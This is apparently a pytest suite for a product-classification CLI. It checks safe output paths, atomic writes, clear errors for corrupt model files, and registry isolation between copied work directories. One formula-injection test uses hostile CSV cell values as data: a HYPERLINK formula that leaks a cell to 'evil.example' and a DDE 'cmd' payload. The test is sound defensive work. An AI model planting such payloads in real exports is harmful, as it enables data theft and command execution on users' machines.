"""Issue 19, the classify and model-artefact side: `prodcat classify` never writes over what it reads, writes its
outputs atomically and spreadsheet-safe, refuses another tree's champion, and turns every bad model file into one
line naming it (CLI exit 2) before the export is read. Real models: the session's two-stage models on the sample."""
import csv
import os
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from pipelines.classify.model_files import BadModelFile
from pipelines.files import OutputPathError
from pipelines.inference.export import RowCountMismatch, classify_export
from pipelines.inference.two_stage import TwoStage

ROOT = Path(__file__).resolve().parents[1]
MYNTRA = ROOT / "data" / "sample" / "myntra"
FORMULA = ("=", "+", "-", "@")


def cli(args, work, timeout=300, **kwargs):
    env = {**os.environ, "PRODCAT_WORK": str(work), "PRODCAT_QUIET": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    env.pop("MLFLOW_TRACKING_URI", None)  # the store is the work dir's own
    return subprocess.run([sys.executable, "-m", "orchestration.cli", "classify", "--quiet", *map(str, args)],
                          env=env, capture_output=True, text=True, timeout=timeout, cwd=ROOT, **kwargs)


def myntra_export(tmp_path, edit=None) -> Path:
    """A copy of the sample's myntra export (images linked), its styles.csv rows changed by `edit(rows)`."""
    out = tmp_path / "export"
    out.mkdir()
    (out / "images").symlink_to(MYNTRA / "images")
    with open(MYNTRA / "styles.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    if edit:
        edit(rows)
    with open(out / "styles.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    return out


@pytest.fixture(scope="module")
def stage1_clf(two_stage_models):
    return TwoStage.load(two_stage_models["settings"], mode="stage1")


# ---- item 2: never over the input --------------------------------------------------------------------------------

def test_out_equal_to_or_inside_the_export_is_refused_and_nothing_written(two_stage_models, tmp_path):
    """Item 2: `--out` equal to the input export replaced the raw export with predictions (rc 0)."""
    export = myntra_export(tmp_path)
    raw = (export / "styles.csv").read_bytes()
    same = cli(["--platform", "myntra", "--input", export, "--out", export / "styles.csv", "--stage", "stage1"],
               two_stage_models["work"])
    assert same.returncode == 2, same.stderr[-2000:]
    assert "Traceback" not in same.stderr and "input" in same.stderr and "styles.csv" in same.stderr
    assert (export / "styles.csv").read_bytes() == raw
    inside = export / "predictions.parquet"
    with pytest.raises(OutputPathError, match="inside the input"):
        classify_export("myntra", export, inside, two_stage_models["settings"], mode="stage1")
    assert sorted(p.name for p in export.iterdir()) == ["images", "styles.csv"]


def test_out_into_a_model_the_run_reads_is_refused(two_stage_models):
    settings = two_stage_models["settings"]
    for out in (Path(two_stage_models["stage1"]["model_dir"]) / "x.parquet",
                Path(settings.work_dir) / "lexical_space" / "x.csv"):
        with pytest.raises(OutputPathError, match="inside the input"):
            classify_export("myntra", MYNTRA, out, settings, mode="stage1")
        assert not out.exists()


# ---- item 3: atomic outputs, counted before writing --------------------------------------------------------------

def _file_size_limit(limit: int):
    def apply():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_write_cut_short_leaves_the_previous_output_not_a_truncated_one(two_stage_models, tmp_path, suffix):
    """Item 3: outputs were written in place, so a run stopped while writing (here: the file-size limit, as a full
    disk would) left a truncated predictions file that parsed cleanly and looked complete."""
    out = tmp_path / f"predictions{suffix}"
    previous = pd.DataFrame({"product_id": ["previous run"], "category_path": ["Clothing"]})
    previous.to_csv(out, index=False) if suffix == ".csv" else previous.to_parquet(out, index=False)
    before = out.read_bytes()
    proc = cli(["--platform", "myntra", "--input", MYNTRA, "--out", out, "--stage", "stage1"],
               two_stage_models["work"], preexec_fn=_file_size_limit(20_000))
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and f"cannot write {out}" in proc.stderr
    assert out.read_bytes() == before  # the previous complete file, untouched
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]  # no temporary file left behind


def test_rows_in_check_runs_before_anything_is_written(two_stage_models, stage1_clf, tmp_path, monkeypatch):
    """Item 3: the rows-in = classified + quarantined invariant is checked before any output exists."""
    from pipelines.inference import export as export_module

    real = export_module.read_export_unlabelled

    def one_row_lost(platform, input_dir, shops_dir=None):
        products, quarantine, rows_in = real(platform, input_dir, shops_dir)
        return products.iloc[1:], quarantine, rows_in

    monkeypatch.setattr(export_module, "read_export_unlabelled", one_row_lost)
    out = tmp_path / "p.csv"
    with pytest.raises(RowCountMismatch, match="rows read"):
        classify_export("myntra", MYNTRA, out, two_stage_models["settings"], classifier=stage1_clf, progress=False)
    assert list(tmp_path.iterdir()) == []


# ---- item 9: formula injection -----------------------------------------------------------------------------------

def test_csv_outputs_escape_spreadsheet_formulas(two_stage_models, stage1_clf, tmp_path):
    """Item 9: ids and titles starting with =, +, -, @ were written verbatim to the CSV outputs."""
    hostile = {1: '=HYPERLINK("http://evil.example/?x="&A1,"click")', 2: "+cmd|' /C calc'!A0", 3: "@SUM(1+1)",
               4: "-2+3"}

    def edit(rows):
        for i, value in hostile.items():
            rows[i][0] = value
        rows[5][0], rows[5][-1] = "=1+1", ""  # empty title: quarantined with its id and title
        rows[6][-1] = "=2*3 shirt"
    export = myntra_export(tmp_path, edit)
    out = tmp_path / "out" / "p.csv"
    summary = classify_export("myntra", export, out, two_stage_models["settings"], classifier=stage1_clf,
                              progress=False)
    assert summary["quarantined"] >= 1
    cells = []
    for path in (out, Path(summary["quarantine_out"])):
        with open(path, newline="", encoding="utf-8") as f:
            cells += [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA)]
    for value in (*hostile.values(), "=1+1"):
        assert "'" + value in cells
    parquet = classify_export("myntra", export, tmp_path / "out" / "p.parquet", two_stage_models["settings"],
                              classifier=stage1_clf, progress=False)
    assert set(hostile.values()) <= set(pd.read_parquet(parquet["out"])["product_id"])  # programs read verbatim


# ---- item 10: clear errors ---------------------------------------------------------------------------------------

def test_bad_out_paths_fail_before_any_work_with_one_line(two_stage_models, tmp_path):
    """Item 10: --out onto a directory, under a file, or with a name the file system refuses (ENAMETOOLONG) gave
    tracebacks after the whole export was classified. Now OutputPathError (exit 2) before any model is loaded: a
    work dir without models still fails on the output first."""
    empty_work = two_stage_models["settings"].with_(work_dir=tmp_path / "no-models")
    (tmp_path / "dir.csv").mkdir()
    (tmp_path / "file").write_text("x")
    cases = {tmp_path / "dir.csv": "existing directory", tmp_path / "file" / "p.csv": "not a directory",
             tmp_path / ("n" * 300 + ".csv"): "name too long", tmp_path / ("n" * 248 + ".csv"): "name too long"}
    for out, message in cases.items():
        with pytest.raises(OutputPathError, match=message):
            classify_export("myntra", MYNTRA, out, empty_work, mode="stage1")
    proc = cli(["--platform", "myntra", "--input", MYNTRA, "--out", tmp_path / "dir.csv", "--stage", "stage1"],
               tmp_path / "no-models", timeout=120)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "existing directory" in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only directories")
def test_unwritable_out_is_a_clear_error(two_stage_models, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        with pytest.raises(OutputPathError, match="cannot write"):
            classify_export("myntra", MYNTRA, locked / "p.csv", two_stage_models["settings"], mode="stage1")
    finally:
        locked.chmod(0o755)


def test_a_300_character_id_is_classified_not_a_traceback(two_stage_models, tmp_path):
    """Item 10: a 300-character id (ENAMETOOLONG where it becomes an image file name) stops no stage."""
    long_id = "9" * 300
    export = myntra_export(tmp_path, lambda rows: rows[1].__setitem__(0, long_id))
    clf = TwoStage.load(two_stage_models["settings"], two_stage_models["stage2_dir"], "stage2")
    summary = classify_export("myntra", export, tmp_path / "p.parquet", two_stage_models["settings"],
                              classifier=clf, progress=False)
    table = pd.read_parquet(summary["out"])
    assert summary["rows_in"] == summary["classified"] + summary["quarantined"]
    assert long_id in set(table["product_id"]) and summary["stage"] == {"stage2": summary["classified"]}


@pytest.fixture(scope="module")
def clean_work(two_stage_models, tmp_path_factory):
    """The models classify reads (stage 1 with calibration and routing, lexical space, joint heads), copied."""
    src, work = Path(two_stage_models["work"]), tmp_path_factory.mktemp("clean") / "work"
    for part in ("models/stage1", "lexical_space", "joint_space"):
        shutil.copytree(src / part, work / part)
    return work


def _broken_work(clean_work, tmp_path, part: str) -> Path:
    """A work dir whose `part` (a path under it) is a fresh copy to break, everything else linked to clean_work.
    -> the work dir."""
    work = tmp_path / "work"
    (work / "models").mkdir(parents=True)
    for name in ("models/stage1", "lexical_space", "joint_space"):
        if part.startswith(name):
            shutil.copytree(clean_work / name, work / name)
        else:
            (work / name).symlink_to(clean_work / name)
    return work


def _truncate(path: Path):
    path.write_bytes(path.read_bytes()[:1000])


def _garbage_header(path: Path):
    path.write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{not a header}")


def _narrower(path: Path, manifest_too: bool):
    import json

    meta = json.loads(path.read_text())
    meta["dims"] = {m: d - 50 for m, d in meta["dims"].items()}
    if manifest_too:
        meta["manifest"]["dims"] = dict(meta["dims"])
    path.write_text(json.dumps(meta, indent=2))


def _wrong_dims(path: Path):  # top-level dims and the manifest's alike: only the weights disagree
    _narrower(path, manifest_too=True)


def _wrong_top_dims(path: Path):
    _narrower(path, manifest_too=False)


def _invalid_json(path: Path):
    path.write_text(path.read_text() + "\n{")


def _two_temperatures(path: Path):
    path.write_text('{"temperatures": [1.0, 2.0]}')


def _text_threshold(path: Path):
    path.write_text('{"threshold": "high"}')


def _corrupt_skops_member(path: Path):
    """A valid zip whose arrays are cut short: the type check passes, building the objects fails."""
    broken = path.with_name("broken.skops")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(broken, "w") as dst:
        for name in src.namelist():
            data = src.read(name)
            dst.writestr(name, data[:20] if name.endswith(".npy") else data)
    broken.replace(path)


BAD_FILES = {
    "truncated weights": ("models/stage1/model.safetensors", _truncate, "not a readable safetensors file"),
    "garbage weights": ("models/stage1/model.safetensors", _garbage_header, "not a readable safetensors file"),
    "wrong dims": ("models/stage1/model.json", _wrong_dims, "does not fit"),
    "dims unlike the manifest": ("models/stage1/model.json", _wrong_top_dims, "differ from the manifest"),
    "model.json invalid": ("models/stage1/model.json", _invalid_json, "invalid JSON at line"),
    "calibration.json invalid": ("models/stage1/calibration.json", _invalid_json, "invalid JSON at line"),
    "calibration wrong length": ("models/stage1/calibration.json", _two_temperatures, "3 finite positive"),
    "routing.json invalid": ("models/stage1/routing.json", _invalid_json, "invalid JSON at line"),
    "routing threshold": ("models/stage1/routing.json", _text_threshold, "threshold must be"),
    "lexical.skops truncated": ("lexical_space/lexical.skops", _truncate, "not a readable skops file"),
    "lexical.skops arrays": ("lexical_space/lexical.skops", _corrupt_skops_member, "cannot be loaded"),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_bad_model_file_is_one_line_naming_it(two_stage_models, clean_work, tmp_path, case):
    """Item 10: corrupt weights, wrong dims and broken JSON gave tracebacks (SafetensorError, RuntimeError) or a
    JSON error that did not say which file. Now a ValueError (CLI exit 2) on one line naming the file, raised
    while loading, i.e. before a single product is read."""
    part, damage, message = BAD_FILES[case]
    work = _broken_work(clean_work, tmp_path, part)
    path = work / part
    damage(path)
    settings = two_stage_models["settings"].with_(work_dir=work)
    with pytest.raises(ValueError) as error:
        TwoStage.load(settings, two_stage_models["stage2_dir"], "routed")
    text = str(error.value)
    assert message in text and str(path) in text and "\n" not in text, text


def test_bad_model_file_via_cli_exits_2_before_reading_the_export(two_stage_models, clean_work, tmp_path):
    path = _broken_work(clean_work, tmp_path, "models/stage1") / "models/stage1/model.safetensors"
    _truncate(path)
    export = tmp_path / "garbage-export"
    export.mkdir()
    (export / "styles.csv").write_bytes(b"\x00\x01 not a csv")  # would fail too, but only once it is read
    proc = cli(["--platform", "myntra", "--input", export, "--out", tmp_path / "p.csv", "--stage", "stage1"],
               tmp_path / "work", timeout=900)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert str(path) in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "p.csv").exists()


def test_bad_model_raises_a_named_error_not_a_bare_exception(two_stage_models, clean_work, tmp_path):
    path = _broken_work(clean_work, tmp_path, "models/stage1") / "models/stage1/model.safetensors"
    _garbage_header(path)
    from pipelines.classify.train import load_model

    with pytest.raises(BadModelFile):
        load_model(path.parent)


# ---- item 8: a copied work dir and its champion ------------------------------------------------------------------

def _registered_work(two_stage_models, clean_work, work: Path) -> str:
    """A work dir holding the models classify reads and a registry whose champion is the session's stage-2 model."""
    from pipelines.classify.registry import log_metrics_run, register_champion

    shutil.copytree(clean_work, work, symlinks=True)
    uri = f"sqlite:///{work / 'mlruns.db'}"
    run_id = log_metrics_run("early", {"name": "early", "modalities": ["text", "image", "lexical"]}, {}, uri,
                             model_dir=Path(two_stage_models["stage2_dir"]))
    assert register_champion(run_id, 0.9, tracking_uri=uri)
    return uri


def test_a_copied_work_dir_uses_its_own_champion_never_the_other_trees(two_stage_models, clean_work, tmp_path):
    """Item 8: the registry records artefacts by absolute path, so a copied work dir loaded its champion from the
    original tree: altered there, the copy silently classified with the other tree's model."""
    from pipelines.files import sha256_of_files
    from pipelines.classify.registry import ForeignArtifacts
    from pipelines.inference.calibration import weights_sha

    original = tmp_path / "original" / "work"
    _registered_work(two_stage_models, clean_work, original)
    copy = tmp_path / "copy" / "work"
    shutil.copytree(original, copy, symlinks=True)
    # the original tree moves on: its registered champion files now hold another (valid, compatible) model
    registered = next((original / "mlartifacts").rglob("model/model.json")).parent
    stage1 = Path(two_stage_models["stage1"]["model_dir"])
    for name in ("model.safetensors", "model.json"):
        shutil.copy(stage1 / name, registered / name)

    settings = two_stage_models["settings"].with_(work_dir=copy)
    clf = TwoStage.load(settings, mode="stage2")
    own = Path(two_stage_models["stage2_dir"])
    assert clf.info["stage2_strategy"] == "early" and clf.info["stage2_calibrated"]
    champion = next((copy / "registry_cache").rglob("model.json")).parent
    assert weights_sha(champion) == weights_sha(own) and champion.is_relative_to(copy)
    assert sha256_of_files(champion / "model.safetensors") != sha256_of_files(registered / "model.safetensors")

    # the copy without its own registered files: refused, never the original's
    shutil.rmtree(copy / "mlartifacts")
    shutil.rmtree(copy / "registry_cache")
    with pytest.raises(ForeignArtifacts, match="outside this store's artifact root.*--model DIR"):
        TwoStage.load(settings, mode="stage2")
    proc = cli(["--platform", "myntra", "--input", MYNTRA, "--out", tmp_path / "p.csv", "--stage", "stage2"], copy,
               timeout=900)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "--model DIR" in proc.stderr, proc.stderr
    assert not (tmp_path / "p.csv").exists()


def test_a_copied_registry_does_not_log_into_the_other_tree(two_stage_models, clean_work, tmp_path):
    """Item 8, training side: runs logged in the copy went into the original's artifact folder."""
    from pipelines.classify.registry import ForeignArtifacts, log_metrics_run

    original = tmp_path / "original" / "work"
    _registered_work(two_stage_models, clean_work, original)
    copy = tmp_path / "copy" / "work"
    shutil.copytree(original, copy, symlinks=True)
    files_before = sorted((original / "mlartifacts").rglob("*"))
    with pytest.raises(ForeignArtifacts, match="outside"):
        log_metrics_run("text", {"name": "text", "modalities": ["text"]}, {}, f"sqlite:///{copy / 'mlruns.db'}",
                        model_dir=Path(two_stage_models["stage2_dir"]))
    assert sorted((original / "mlartifacts").rglob("*")) == files_before
